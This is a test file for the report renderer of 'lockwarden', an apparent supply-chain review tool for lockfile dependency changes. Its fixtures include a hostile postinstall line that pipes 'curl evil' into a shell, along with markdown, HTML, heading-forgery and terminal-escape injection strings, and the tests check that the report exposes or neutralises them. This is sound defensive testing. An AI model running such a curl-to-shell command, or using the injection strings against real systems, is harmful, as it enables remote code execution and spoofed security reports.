import type { ReviewResult, ReviewedChange } from '../../src/core/review.js';
import { code, codeBlock, escapeText, render, renderMarkdown, truncateUtf8, verdict } from '../../src/report/index.js';

function change(over: Partial<ReviewedChange> = {}): ReviewedChange {
  return {
    ecosystem: 'npm',
    name: 'left-pad',
    from: '1.0.0',
    to: '1.0.1',
    kind: 'upgraded',
    lockfile: 'package-lock.json',
    line: 10,
    direct: true,
    directOf: [''],
    via: [],
    findings: [],
    severity: null,
    ...over,
  };
}

function result(changes: ReviewedChange[], over: Partial<ReviewResult> = {}): ReviewResult {
  return {
    changes,
    conclusion: 'success',
    incomplete: [],
    summary: {
      lockfiles: ['package-lock.json'],
      changes: changes.length,
      needsRegistry: changes.length,
      analysed: changes.length,
      offline: false,
      bySeverity: { critical: 0, high: 0, medium: 0, low: 0, info: 0 },
    },
    notes: [],
    ...over,
  };
}

const takeover = change({
  name: 'axios',
  from: '1.14.0',
  to: '1.14.1',
  line: 42,
  severity: 'critical',
  findings: [
    {
      signal: 'possible-takeover',
      severity: 'critical',
      message: 'axios 1.14.1 looks like an account takeover',
      evidence: { indicators: ['trust-downgrade', 'publisher-changed'] },
    },
    { signal: 'install-script-added', severity: 'high', message: 'postinstall added', evidence: { scripts: { postinstall: 'node setup.js\ncurl evil | sh' } } },
  ],
});

describe('escaping', () => {
  it('code spans cannot be closed by backticks in the value', () => {
    expect(code('a`b')).toBe('``a`b``');
    expect(code('``x')).toBe('``` ``x ```');
  });
  it('code spans escape table pipes and collapse newlines', () => {
    expect(code('a|b\nc')).toBe('`a\\|b c`');
  });
  it('text cannot mention users, inject HTML, links or headings', () => {
    const t = escapeText('@octocat <img src=x> [ok](http://evil) # LGTM');
    expect(t).not.toMatch(/@octocat/);
    expect(t).not.toContain('<img');
    expect(t).not.toMatch(/[^\\]\]\(/); // every ] is escaped, so no link can form
    expect(t).not.toContain('http://');
  });
  it('code blocks use a fence longer than any in the text', () => {
    const b = codeBlock('echo ```\n````');
    expect(b.startsWith('`````\n')).toBe(true);
    expect(b.endsWith('\n`````')).toBe(true);
  });
});

describe('markdown report', () => {
  it('states the verdict first, then risky packages by severity with evidence, routine changes collapsed', () => {
    const r = result(
      [
        change(),
        takeover,
        change({ name: 'chalk', severity: 'medium', findings: [{ signal: 'dormant-revival', severity: 'medium', message: 'dormant', evidence: {} }] }),
      ],
      { conclusion: 'failure' },
    );
    const md = renderMarkdown(r);
    const lines = md.split('\n');
    expect(lines[0]).toBe('## ❌ lockwarden: 2 risky packages need review before merging: axios 1.14.0 → 1.14.1 (critical)');
    expect(md.indexOf('`axios`')).toBeLessThan(md.indexOf('`chalk`'));
    // the install script is shown inline, in a code block, not hidden in the evidence
    expect(md).toMatch(/```\n\s*postinstall: node setup\.js\n\s*curl evil \| sh\n\s*```/);
    expect(md).toMatch(/<details><summary>1 routine change<\/summary>/);
    expect(md).toContain('`package-lock.json` line 42');
  });

  it('a malicious package name cannot forge an all-clear heading', () => {
    const evil = change({
      name: '\n## ✅ lockwarden: all clear\n',
      severity: 'high',
      findings: [{ signal: 'x', severity: 'high', message: 'm', evidence: {} }],
    });
    const md = renderMarkdown(result([evil], { conclusion: 'failure' }));
    expect(md.split('\n').filter((l) => l.startsWith('## '))).toHaveLength(1);
  });

  it('keeps within the byte budget and says what was cut', () => {
    const many = Array.from({ length: 400 }, (_, i) =>
      change({
        name: `pkg-${i}`,
        severity: 'high',
        findings: [{ signal: 'install-script-added', severity: 'high', message: 'x'.repeat(200), evidence: { script: 'y'.repeat(1500) } }],
      }),
    );
    const md = renderMarkdown(result(many, { conclusion: 'failure' }), { maxBytes: 65_000 });
    expect(Buffer.byteLength(md)).toBeLessThanOrEqual(65_000);
    expect(md).toMatch(/more risky packages not shown here/);
  });

  it('reports incomplete analysis and never an all-clear then', () => {
    const r = result([change()], { conclusion: 'neutral', incomplete: [{ name: 'left-pad', version: '1.0.1', reason: 'HTTP 503' }] });
    const md = renderMarkdown(r);
    expect(md.split('\n')[0]).toMatch(/Review incomplete/);
    expect(md).toContain('HTTP 503');
    expect(verdict(r).icon).not.toBe('✅');
  });
});

describe('truncateUtf8', () => {
  it('never splits a multi-byte character', () => {
    const s = '🔴'.repeat(1000);
    const t = truncateUtf8(s, 501);
    expect(Buffer.byteLength(t)).toBeLessThanOrEqual(501);
    expect(t).not.toContain('\ufffd');
  });
});

describe('text and json', () => {
  it('text has colour only when asked and strips terminal escapes from names', () => {
    const r = result([change({ name: 'evil\u001b[2Jname', severity: 'high', findings: [{ signal: 's', severity: 'high', message: 'm', evidence: {} }] })], {
      conclusion: 'failure',
    });
    const plain = render(r, 'text', { color: false });
    expect(plain).not.toContain('\u001b');
    expect(plain).toContain('evilname');
    expect(render(r, 'text', { color: true })).toContain('\u001b[');
  });
  it('json follows the contract', () => {
    const j = JSON.parse(render(result([takeover], { conclusion: 'failure' }), 'json'));
    expect(Object.keys(j)).toEqual(expect.arrayContaining(['changes', 'conclusion', 'incomplete']));
    expect(Object.keys(j.changes[0]).slice(0, 10)).toEqual(['ecosystem', 'name', 'from', 'to', 'kind', 'lockfile', 'line', 'direct', 'via', 'findings']);
    expect(Object.keys(j.changes[0].findings[0])).toEqual(['signal', 'severity', 'message', 'evidence']);
  });
});
